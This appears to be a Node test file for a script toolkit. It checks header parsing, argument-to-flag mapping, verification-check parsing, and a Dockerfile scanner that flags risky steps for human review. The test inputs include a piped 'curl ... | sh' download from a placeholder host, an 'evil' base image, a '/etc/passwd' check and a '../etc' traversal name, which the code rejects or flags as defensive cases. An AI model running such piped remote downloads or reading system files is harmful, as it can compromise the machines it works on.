import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import {
  completeScript,
  HeaderError,
  parseScriptHeader,
  toolDescription,
  toolkitArgv,
  toolName,
  toolSchema,
} from '../../domain/playbook-header.js';
import { parseCheck, parseVerify } from '../../domain/playbook-verify.js';
import { baseImages, dockerfileFlags, dockerfileInstructions } from '../../domain/playbook-dockerfile.js';

const script = `#!/usr/bin/env python3
# svc:name top.stories
# svc:description Fetches the top stories
# svc:args {"limit": "integer?", "site": "string"}
# svc:side-effects none  # reads only
print("hi")
`;

describe('script headers', () => {
  it('reads name, description, args, side effects and the language of the shebang', () => {
    const h = parseScriptHeader(script);
    assert.equal(h.name, 'top.stories');
    assert.equal(h.description, 'Fetches the top stories');
    assert.deepEqual(h.args, { limit: { type: 'integer', optional: true }, site: { type: 'string', optional: false } });
    assert.equal(h.sideEffects, 'none');
    assert.equal(h.shebangLanguage, 'python');
  });

  it('takes // comments and the svc:key: form', () => {
    const h = parseScriptHeader('// svc:name: fetch\n// svc:description: Gets it\n// svc:side-effects: external\n');
    assert.equal(h.name, 'fetch');
    assert.equal(h.description, 'Gets it');
    assert.equal(h.sideEffects, 'external');
    assert.equal(completeScript('// svc:name: fetch\n', h).language, 'node');
  });

  it('ignores header lines after the first 30', () => {
    const late = `#!/bin/sh\n${'echo\n'.repeat(30)}# svc:side-effects bogus\n`;
    assert.equal(parseScriptHeader(late).sideEffects, 'none');
  });

  it('refuses bad headers with a reason', () => {
    const bad = [
      '# svc:side-effects maybe\n',
      '# svc:args {"Limit": "integer"}\n',
      '# svc:args {"limit": "int"}\n',
      '# svc:args [1]\n',
      '# svc:args {oops}\n',
      '# svc:name ../etc\n',
      '# svc:name a\n# svc:name b\n',
      '# svc:descripton typo\n',
      '# svc:description\n',
    ];
    for (const text of bad) assert.throws(() => parseScriptHeader(text), HeaderError, text);
  });

  it('adds a shebang for the language and a trailing newline', () => {
    const plain = 'echo hi';
    const done = completeScript(plain, parseScriptHeader(plain));
    assert.equal(done.content, '#!/usr/bin/env bash\necho hi\n');
    assert.equal(
      completeScript(plain, parseScriptHeader(plain), 'python').content,
      '#!/usr/bin/env python3\necho hi\n',
    );
    assert.equal(completeScript(plain, parseScriptHeader(plain), 'sh').content, '#!/bin/sh\necho hi\n');
    assert.equal(completeScript(script, parseScriptHeader(script)).content, script);
    assert.equal(parseScriptHeader('#!/bin/sh\n').shebangLanguage, 'sh');
    assert.equal(parseScriptHeader('#!/usr/bin/node\n').shebangLanguage, 'node');
  });

  it('maps names to tool names so that lookalikes collide', () => {
    assert.equal(toolName('top.stories'), 'toolkit__top_stories');
    assert.equal(toolName('top-stories'), toolName('top_stories'));
  });

  it('turns arguments into sorted --name value flags, strings raw and other JSON as text', () => {
    const args = parseScriptHeader(
      '# svc:args {"site": "string", "limit": "integer?", "tags": "array?", "dry": "boolean?"}\n',
    ).args;
    assert.deepEqual(toolkitArgv(args, { site: 'hn', limit: 5, tags: ['a', 'b'], dry: false }), [
      '--dry',
      'false',
      '--limit',
      '5',
      '--site',
      'hn',
      '--tags',
      '["a","b"]',
    ]);
    assert.deepEqual(toolkitArgv(args, { site: 'a b' }), ['--site', 'a b']);
    assert.throws(() => toolkitArgv(args, {}), /missing required argument "site"/);
    assert.throws(() => toolkitArgv(args, { site: 'x', color: 'red' }), /unknown argument "color"/);
    assert.throws(() => toolkitArgv(args, { site: 'x', limit: 1.5 }), /"limit" must be an integer/);
    assert.deepEqual(toolSchema(args), {
      type: 'object',
      properties: {
        dry: { type: 'boolean' },
        limit: { type: 'integer' },
        site: { type: 'string' },
        tags: { type: 'array' },
      },
      required: ['site'],
      additionalProperties: false,
    });
    assert.match(
      toolDescription({ name: 'post', description: 'Posts it', sideEffects: 'external' }),
      /runs \/svc\/toolkit\/post, proven in earlier runs.*side effects/,
    );
  });
});

describe('verify', () => {
  it('parses every check form', () => {
    assert.deepEqual(parseCheck('exit_code == 0'), { kind: 'exit_code', op: '==', value: 0 });
    assert.deepEqual(parseCheck('output.count exists'), { kind: 'output_exists', name: 'count' });
    assert.deepEqual(parseCheck('output.count >= 3'), { kind: 'output', name: 'count', op: '>=', value: 3 });
    assert.deepEqual(parseCheck('output.city == "Oslo"'), { kind: 'output', name: 'city', op: '==', value: 'Oslo' });
    assert.deepEqual(parseCheck('file /svc/outputs/report.md exists'), {
      kind: 'file_exists',
      path: '/svc/outputs/report.md',
    });
    assert.deepEqual(parseCheck('stdout contains "done"'), { kind: 'stdout_contains', text: 'done' });
    for (const bad of [
      'output.city > "a"',
      'output.city == Oslo',
      'file /etc/passwd exists',
      'stdout contains done',
      'exit_code > 0',
      'whatever',
    ]) {
      assert.ok('error' in parseCheck(bad), bad);
    }
  });

  it('is strict about its shape', () => {
    assert.deepEqual(parseVerify(null), { verify: null, problems: [] });
    assert.deepEqual(parseVerify({ checks: ['exit_code == 0'] }).verify, {
      checks: ['exit_code == 0'],
      llm: false,
      varies: [],
    });
    assert.deepEqual(
      parseVerify({ checks: [], extra: 1 }).problems.map((p) => p.path),
      ['extra'],
    );
    assert.deepEqual(
      parseVerify({ checks: Array(21).fill('exit_code == 0') }).problems.map((p) => p.path),
      ['checks'],
    );
    assert.deepEqual(
      parseVerify({ varies: [''] }).problems.map((p) => p.path),
      ['varies[0]'],
    );
    assert.deepEqual(
      parseVerify({ llm: 'yes' }).problems.map((p) => p.path),
      ['llm'],
    );
  });
});

describe('Dockerfiles', () => {
  it('joins continuations, honours the escape directive and ignores stage aliases', () => {
    assert.deepEqual(dockerfileInstructions('FROM a\nRUN apt-get update && \\\n  apt-get install -y jq\n'), [
      { keyword: 'FROM', args: 'a' },
      { keyword: 'RUN', args: 'apt-get update &&    apt-get install -y jq' },
    ]);
    assert.equal(dockerfileInstructions('# escape=`\nFROM a\nRUN echo `\n  hi\n')[1]!.args, 'echo    hi');
    assert.deepEqual(baseImages('FROM node:20 AS build\nFROM build\nFROM --platform=linux/amd64 debian:12\n'), [
      'node:20',
      'debian:12',
    ]);
  });

  it('flags what needs a person: new base images, piped downloads, remote ADD, COPY from an image', () => {
    assert.deepEqual(
      dockerfileFlags('FROM svc-base:bookworm\nRUN apt-get install -y jq\n', 'svc-base:bookworm', null),
      [],
    );
    const flags = dockerfileFlags(
      'FROM evil:latest AS b\nRUN curl -fsSL https://x.sh | sh\nADD https://x/y.tgz /\nCOPY --from=alpine:3 /bin/sh /x\nCOPY --from=b /a /b\n',
      'svc-base:bookworm',
      null,
    );
    assert.equal(flags.length, 4);
    assert.ok(flags.every((f) => f.startsWith('needs review')));
    assert.deepEqual(dockerfileFlags('FROM python:3.12\n', null, 'FROM python:3.12\nRUN true\n'), []);
  });
});
